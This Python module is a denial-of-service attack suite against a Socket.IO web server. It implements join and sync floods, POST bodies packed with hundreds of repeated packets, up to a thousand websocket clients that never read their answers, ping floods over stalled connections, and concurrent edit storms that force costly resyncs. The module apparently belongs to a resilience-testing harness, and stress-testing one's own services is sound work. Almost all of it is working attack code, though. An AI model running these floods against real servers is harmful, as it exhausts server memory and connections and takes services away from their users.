"""Attacks with well-formed Socket.IO messages: floods of joins and syncs, and answers that nobody reads."""

import contextlib
import json
import socket
import time

from attacks.wire import (
    PING,
    SMALL_FRAMES,
    Target,
    again_and_again,
    answer_to,
    close_all,
    frame,
    in_threads,
    raise_file_limit,
    request,
)

PACKETS = 800
"""In one POST: a little less than the server takes."""
SYNCING_CLIENTS = 10
SYNCS = 12
MANY_CLIENTS = 1_000
SYNCS_OF_MANY = 4
PINGING_CLIENTS = 200
PINGS_PER_S = 100
EDITS = 200
EDITING_CLIENTS = 8


def joins(target: Target) -> None:
    _flood(target, message("join_department", target.departments["small"]))


def syncs(target: Target) -> None:
    _flood(target, message("sync_request", target.departments["small"]))


def posts_of_many_packets(target: Target) -> None:
    """Join again and again, hundreds of times in each POST of a polling client that fetches nothing."""
    body = "\x1e".join([message("join_department", target.departments["small"])] * PACKETS).encode()

    def attack() -> None:
        with target.connect() as tcp:
            path = polling_session(tcp)
            while target.remaining_s:
                tcp.sendall(request("POST", path, ("Content-Type", "text/plain"), body=body))
                answer_to(tcp)

    target.persist(attack)


def unread_syncs_by_websocket(target: Target) -> None:
    """Ask for a large department again and again in several clients that read nothing."""
    messages = frame(message("sync_request", target.departments["large"])) * SYNCS

    def client() -> None:
        with target.websocket(receive_buffer=4_096) as tcp:
            tcp.sendall(messages)
            target.hold()

    in_threads(SYNCING_CLIENTS, lambda: target.persist(client))


def unread_syncs_by_polling(target: Target) -> None:
    body = "\x1e".join([message("sync_request", target.departments["large"])] * SYNCS).encode()

    def client() -> None:
        with target.connect() as tcp:
            path = polling_session(tcp)
            tcp.sendall(request("POST", path, ("Content-Type", "text/plain"), body=body))
            target.hold()

    in_threads(SYNCING_CLIENTS, lambda: target.persist(client))


def pings_while_unread(target: Target) -> None:
    """Send pings of 125 bytes in clients that each leave one large answer unread."""
    held = _unread(target, PINGING_CLIENTS, frame(message("sync_request", target.departments["large"])))
    pings = frame(b"x" * 125, PING) * PINGS_PER_S
    for tcp in held:
        tcp.setblocking(False)
    while target.remaining_s:
        for tcp in held:
            with contextlib.suppress(OSError):  # the server has closed it, or reads no more
                tcp.send(pings)
        time.sleep(min(1.0, target.remaining_s))
    close_all(held)


def many_clients_that_read_nothing(target: Target) -> None:
    syncs = frame(message("sync_request", target.departments["medium"])) * SYNCS_OF_MANY
    held = _unread(target, MANY_CLIENTS, syncs)
    target.hold()
    close_all(held)


def unread_syncs_of_many_states(target: Target) -> None:
    """Change a large department all over before each of its answers that nobody reads."""
    sync = frame(message("sync_request", target.departments["large"]))
    held: list[socket.socket] = []
    with target.connect() as tcp:
        tcp.settimeout(60)
        tcp.sendall(request("GET", f"/api/events/{target.departments['large']}"))
        events = json.loads(answer_to(tcp))["events"]
    spread = [event["id"] for event in events[:: len(events) // EDITS]]
    while target.remaining_s:
        _edit(target, spread, f"edit {len(held)}")
        held += _unread(target, 1, sync)
    close_all(held)


def message(name: str, department_id: str) -> str:
    """Return the packet of a message about a department."""
    return "42" + json.dumps([name, {"department_id": department_id}])


def polling_session(tcp: socket.socket) -> str:
    """Begin a session of polling and the Socket.IO connection in it; return its path."""
    tcp.sendall(request("GET", "/socket.io/?EIO=4&transport=polling"))
    path = f"/socket.io/?EIO=4&transport=polling&sid={json.loads(answer_to(tcp)[1:])['sid']}"
    tcp.sendall(request("POST", path, ("Content-Type", "text/plain"), body=b"40"))
    answer_to(tcp)
    return path


def _unread(target: Target, count: int, messages: bytes) -> list[socket.socket]:
    """Send messages in each of several clients whose answers nobody reads."""
    raise_file_limit()
    held: list[socket.socket] = []
    while len(held) < count and target.remaining_s:
        with contextlib.suppress(OSError):  # refused, or not answered in time
            tcp = target.websocket(receive_buffer=4_096)
            held.append(tcp)
            tcp.sendall(messages)
    return held


def _edit(target: Target, event_ids: list[str], title: str) -> None:
    """Give events another title, in several clients at once, until the attack ends."""
    rest = iter(event_ids)
    headers = ("Content-Type", "application/json")
    body = json.dumps({"title": title}).encode()

    def client() -> None:
        with contextlib.suppress(OSError), target.connect() as tcp:
            for event_id in rest:
                if not target.remaining_s:
                    break
                tcp.sendall(request("PUT", f"/api/events/{event_id}", headers, body=body))
                answer_to(tcp)

    in_threads(EDITING_CLIENTS, client)


def _flood(target: Target, packet: str) -> None:
    def attack() -> None:
        with target.websocket() as tcp:
            target.flood(tcp, again_and_again(frame(packet)), SMALL_FRAMES)

    target.persist(attack)
